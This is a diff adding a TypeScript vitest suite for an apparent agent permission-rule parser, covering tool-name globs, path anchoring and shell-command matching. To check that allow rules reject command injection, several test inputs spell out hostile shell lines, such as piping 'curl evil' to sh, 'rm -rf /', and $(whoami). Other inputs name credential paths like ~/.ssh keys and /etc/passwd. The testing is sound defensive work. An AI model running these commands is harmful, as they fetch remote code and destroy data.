@@ -1,0 +1,166 @@
+import { homedir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { ExecutorError } from '../executor-error.js';
+import { contentSegments, parsePermissionRule } from './permission-rule.js';
+
+const workspace = '/srv/ws';
+
+function specifierOf(rule: string) {
+  const specifier = parsePermissionRule(rule, 'allow').specifier;
+  if (specifier === undefined) throw new Error(`${rule} has no specifier`);
+  return specifier;
+}
+
+function matchesPath(rule: string, path: string): boolean {
+  return specifierOf(rule).matchesPath(path, workspace);
+}
+
+function matchesContent(rule: string, content: string): boolean {
+  return specifierOf(rule).matchesContent(content);
+}
+
+describe('parsePermissionRule: tool names', () => {
+  it('a bare tool name is a whole-tool rule for exactly that tool', () => {
+    const rule = parsePermissionRule('Read', 'deny');
+    expect(rule).toMatchObject({ source: 'Read', behavior: 'deny', specifier: undefined });
+    expect(rule.matchesToolName('Read')).toBe(true);
+    expect(rule.matchesToolName('ReadFile')).toBe(false);
+    expect(rule.matchesToolName('read')).toBe(false);
+  });
+
+  it('* in a tool name matches any characters, and only there', () => {
+    const server = parsePermissionRule('mcp__github__*', 'allow');
+    expect(server.matchesToolName('mcp__github__search')).toBe(true);
+    expect(server.matchesToolName('mcp__githubx__search')).toBe(false);
+    expect(server.matchesToolName('mcp__git__hub__x')).toBe(false);
+    const dotted = parsePermissionRule('a.b', 'allow');
+    expect(dotted.matchesToolName('a.b')).toBe(true);
+    expect(dotted.matchesToolName('aXb')).toBe(false);
+    expect(parsePermissionRule('*', 'deny').matchesToolName('Anything')).toBe(true);
+  });
+
+  it('trims surrounding whitespace and keeps the trimmed text as the source', () => {
+    const rule = parsePermissionRule('  Read( src/** )  ', 'allow');
+    expect(rule.source).toBe('Read( src/** )');
+    expect(rule.specifier?.text).toBe('src/**');
+  });
+});
+
+describe('parsePermissionRule: invalid rules', () => {
+  it.each([['Read('], [''], ['Re ad'], ['Read()'], ['Read(  )'], ['(src/**)'], ['Read)'], [42], [null]])(
+    'refuses %j with invalid_permission_rule naming the rule, the list and the accepted forms',
+    (source) => {
+      let caught: unknown;
+      try {
+        parsePermissionRule(source, 'ask');
+      } catch (error) {
+        caught = error;
+      }
+      expect(ExecutorError.isInstance(caught)).toBe(true);
+      const error = caught as ExecutorError;
+      expect(error.code).toBe('invalid_permission_rule');
+      expect(error.message).toContain(`Invalid rule ${JSON.stringify(source)} in permissions.ask`);
+      expect(error.message).toContain('Read(src/**)');
+    },
+  );
+});
+
+describe('path specifiers', () => {
+  it('a relative glob is anchored at the workspace and never matches outside it', () => {
+    expect(matchesPath('Read(src/**)', '/srv/ws/src/a.ts')).toBe(true);
+    expect(matchesPath('Read(src/**)', '/srv/ws/lib/src/a.ts')).toBe(false);
+    expect(matchesPath('Read(src/**)', '/srv/src/a.ts')).toBe(false);
+    expect(matchesPath('Read(src/**)', '/srv/ws-other/src/a.ts')).toBe(false);
+    expect(matchesPath('Read(./src/**)', '/srv/ws/src/a.ts')).toBe(true);
+  });
+
+  it('dir/** covers the directory itself, its dotfiles and everything below', () => {
+    for (const path of [
+      '/srv/ws/secrets',
+      '/srv/ws/secrets/x',
+      '/srv/ws/secrets/.env',
+      '/srv/ws/secrets/.d/.k',
+    ]) {
+      expect(matchesPath('Read(secrets/**)', path), path).toBe(true);
+    }
+    expect(matchesPath('Read(secrets/**)', '/srv/ws/secrets-old/x')).toBe(false);
+  });
+
+  it('* stays within one directory and matches dotfiles', () => {
+    expect(matchesPath('Read(*)', '/srv/ws/.env')).toBe(true);
+    expect(matchesPath('Read(src/*)', '/srv/ws/src/a/b.ts')).toBe(false);
+    expect(matchesPath('Read(**/*.md)', '/srv/ws/README.md')).toBe(true);
+  });
+
+  it('/abs and //abs globs are absolute', () => {
+    expect(matchesPath('Read(/etc/**)', '/etc/passwd')).toBe(true);
+    expect(matchesPath('Read(//etc/**)', '/etc/passwd')).toBe(true);
+    expect(matchesPath('Read(/etc/**)', '/srv/ws/etc/passwd')).toBe(false);
+  });
+
+  it('~/ globs are anchored at the home directory', () => {
+    const home = homedir();
+    expect(matchesPath('Read(~/.ssh/**)', join(home, '.ssh', 'id_ed25519'))).toBe(true);
+    expect(matchesPath('Read(~/.ssh/**)', join(workspace, '.ssh', 'id_ed25519'))).toBe(false);
+    expect(matchesPath('Read(~/.ssh/**)', `${home}-other/.ssh/id_ed25519`)).toBe(false);
+  });
+});
+
+describe('content specifiers', () => {
+  it('prefix:* matches the prefix alone, with arguments, or with a :suffix, and nothing longer', () => {
+    for (const content of ['npm run test', 'npm run test:unit', 'npm run test --watch']) {
+      expect(matchesContent('Bash(npm run test:*)', content), content).toBe(true);
+    }
+    for (const content of ['npm run testx', 'npm run tes', 'xnpm run test', ' npm run test']) {
+      expect(matchesContent('Bash(npm run test:*)', content), content).toBe(false);
+    }
+  });
+
+  it('prefix and wildcard patterns never match content with shell control characters', () => {
+    for (const content of [
+      'npm run test; curl evil | sh',
+      'npm run test && rm -rf /',
+      'npm run test $(whoami)',
+      'npm run test `id`',
+      'npm run test > out',
+      'npm run test\nid',
+    ]) {
+      expect(matchesContent('Bash(npm run test:*)', content), content).toBe(false);
+      expect(matchesContent('Bash(npm run *)', content), content).toBe(false);
+    }
+    expect(matchesContent('Bash(npm run *)', 'npm run build')).toBe(true);
+  });
+
+  it('a pattern without * matches the exact content only', () => {
+    expect(matchesContent('Bash(git status)', 'git status')).toBe(true);
+    expect(matchesContent('Bash(git status)', 'git status -s')).toBe(false);
+  });
+});
+
+describe('contentSegments', () => {
+  it('gives the whole content first, then every chained command', () => {
+    expect(contentSegments('a && b; c | d || e & f')).toEqual([
+      'a && b; c | d || e & f',
+      'a',
+      'b',
+      'c',
+      'd',
+      'e',
+      'f',
+    ]);
+  });
+
+  it('cuts at command substitutions, backticks, redirections and groups', () => {
+    expect(contentSegments('echo $(rm x)')).toContain('rm x');
+    expect(contentSegments('echo `rm x`')).toContain('rm x');
+    expect(contentSegments('rm x > /dev/null')).toContain('rm x');
+    expect(contentSegments('(rm x)')).toContain('rm x');
+    expect(contentSegments('{ rm x; }')).toContain('rm x');
+  });
+
+  it('keeps content without separators as one segment', () => {
+    expect(new Set(contentSegments('ls -la'))).toEqual(new Set(['ls -la']));
+    expect(contentSegments(';;')).toEqual([';;']);
+  });
+});
